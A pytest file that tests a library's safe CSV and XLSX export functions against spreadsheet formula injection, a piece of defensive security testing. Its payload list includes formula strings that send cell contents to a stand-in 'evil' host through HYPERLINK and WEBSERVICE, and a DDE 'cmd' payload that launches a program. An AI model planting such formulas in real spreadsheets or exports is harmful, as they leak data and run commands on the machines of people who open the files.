"""Safe spreadsheet exports (SECURITY.md CSV-1 to CSV-7)."""

import csv
import stat
import zipfile

import pandas as pd
import pytest

from ddkit.export import neutralize, safe_frame, write_csv, write_xlsx

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil/?d="&A2,"x")',
    '=WEBSERVICE("https://evil/"&B2)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralized(payload):
    assert neutralize(payload).startswith("'")


def frame():
    # Built the way pandas 3 builds text columns (the "str" dtype), not as object columns.
    return pd.DataFrame(
        {
            "=evil": PAYLOADS,
            "note": ["a\rb", "x\ny", 'say "hi"', "https://evil/x"] + ["ok"] * 7,
            "count": range(11),
        }  # fmt: skip
    )


def test_text_columns_of_any_dtype_are_neutralized():
    out = safe_frame(frame())
    assert list(out.columns)[0] == "'=evil"
    assert all(v.startswith("'") for v in out["'=evil"])


def test_csv_round_trip_keeps_rows_values_and_numbers(tmp_path):
    path = write_csv(frame(), tmp_path / "cases.csv")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM so Excel shows accents
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 12
    assert all(cell.startswith("'") for cell in (r[0] for r in rows))
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert len(back) == 11 and back["count"].dtype.kind == "i"
    assert back["note"][1] == "x\ny" and back["note"][2] == 'say "hi"'


def test_xlsx_has_no_formulas_or_hyperlinks(tmp_path):
    path = write_xlsx(frame(), tmp_path / "cases.xlsx")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    back = pd.read_excel(path)
    assert back["count"].dtype.kind == "i"
    assert back.iloc[0, 0] == "'=1+1"


def test_names_in_any_script_survive(tmp_path):
    names = pd.DataFrame({"name": ["María José Núñez", "محمد", "王小明"]})
    path = write_csv(names, tmp_path / "n.csv")
    assert pd.read_csv(path, encoding="utf-8-sig")["name"].tolist() == names["name"].tolist()
